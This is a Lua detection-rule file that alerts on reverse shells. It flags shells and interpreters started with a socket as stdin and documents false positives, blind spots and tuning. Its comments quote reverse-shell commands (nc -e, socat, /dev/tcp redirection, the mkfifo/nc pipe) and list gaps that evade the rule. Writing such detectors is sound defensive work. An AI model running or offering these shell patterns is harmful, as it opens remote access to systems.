-- reverse_shell.lua: alert on a shell whose standard input is a socket.
--
-- Catches
--   * an exec of a shell (SHELLS) whose stdin (what fd 0 points to, as
--     readlink shows it) is "socket:[...]": `nc -e /bin/sh`, `socat
--     exec:bash tcp:...`, `bash -i >& /dev/tcp/host/port 0>&1` run from
--     another shell, a Python/Perl one-liner that dup2()s a socket onto
--     0-2 and then execs /bin/sh;
--   * the same for script interpreters (INTERPRETERS): the first stage of
--     the pty "upgrade" (`python3 -c 'import pty; pty.spawn("/bin/bash")'`
--     started on the socket), and interpreter-based reverse shells.
--   Alert-only.
--
-- Known false positives
--   * inetd-style services (systemd Accept=yes, inetd, xinetd) whose handler
--     is a shell or a script: stdin is the connection by design. Their usual
--     parents are listed in EXPECTED_PARENTS.
--   * SSH commands without a pty (`ssh host cmd`): depending on the OpenSSH
--     build, the command's stdin is a socketpair to sshd; sshd and
--     sshd-session are in EXPECTED_PARENTS.
--   * readlink does not say what kind of socket it is: a local UNIX
--     socketpair looks like a TCP connection.
-- Known false negatives
--   * `bash -i >& /dev/tcp/...` typed into an interactive shell redirects
--     inside that shell, which execs nothing: nothing to see at exec. It is
--     caught when started through another process (a web shell's `sh -c`).
--   * the mkfifo variant (`cat f | sh -i 2>&1 | nc host port > f`): the
--     shell's stdin is a pipe; nc itself can be forbidden
--     (forbidden_binaries.lua).
--   * a shell that moves the socket off fd 0 before exec, or a shell whose
--     parent is an EXPECTED_PARENTS program (an attacker with ssh access
--     does not need a reverse shell).
--   * stdin is read from /proc when the rule asks: a shell that exits
--     within microseconds may be gone (then the rule does not fire).
--
-- Tuning
--   * SHELLS, INTERPRETERS: globs on the full exe path.
--   * EXPECTED_PARENTS: exact parent paths whose shells may have a socket
--     on stdin.
--   * throttle: one alert per socket a minute (a reverse shell that starts
--     `bash` again inherits the same socket); the rest are counted.

local SHELLS = {
  "*/sh", "*/bash", "*/rbash", "*/dash", "*/zsh", "*/ksh", "*/ksh93", "*/mksh",
  "*/ash", "*/csh", "*/tcsh", "*/fish", "*/yash", "*/busybox",
}

local INTERPRETERS = {
  "*/python", "*/python[23]", "*/python[23].*", "*/perl", "*/perl5*", "*/ruby*",
  "*/php", "*/php[0-9]*", "*/lua", "*/lua5.*", "*/node", "*/nodejs",
}

local EXPECTED_PARENTS = {
  ["/usr/sbin/sshd"] = true, ["/usr/lib/openssh/sshd-session"] = true,
  ["/usr/libexec/openssh/sshd-session"] = true, ["/usr/sbin/sshd-session"] = true,
  ["/usr/lib/systemd/systemd"] = true, ["/lib/systemd/systemd"] = true,
  ["/usr/sbin/inetd"] = true, ["/usr/sbin/xinetd"] = true,
}

local function unexpected_parent(e)
  local parent = e.parent
  local exe = parent and parent.exe
  return exe == nil or not EXPECTED_PARENTS[exe]
end

rule {
  name = "reverse-shell",
  on = "exec",
  match = { exe = SHELLS, stdin = "socket:*" },
  when = unexpected_parent,
  action = alert "reverse shell? {exe} (pid {pid}, user {user}) has stdin {stdin}, parent {parent.exe} (pid {ppid})",
  priority = "critical",
  tags = { "mitre:T1059.004", "mitre:T1095" },
  throttle = { key = "stdin", count = 1, per = 60 },
}

rule {
  name = "reverse-shell-interpreter",
  on = "exec",
  match = { exe = INTERPRETERS, stdin = "socket:*" },
  when = unexpected_parent,
  action = alert("interpreter on a socket: {cmdline} (pid {pid}, user {user}) has stdin {stdin}, "
    .. "parent {parent.exe} (pid {ppid})"),
  priority = "error",
  tags = { "mitre:T1059", "mitre:T1095" },
  throttle = { key = "stdin", count = 1, per = 60 },
}
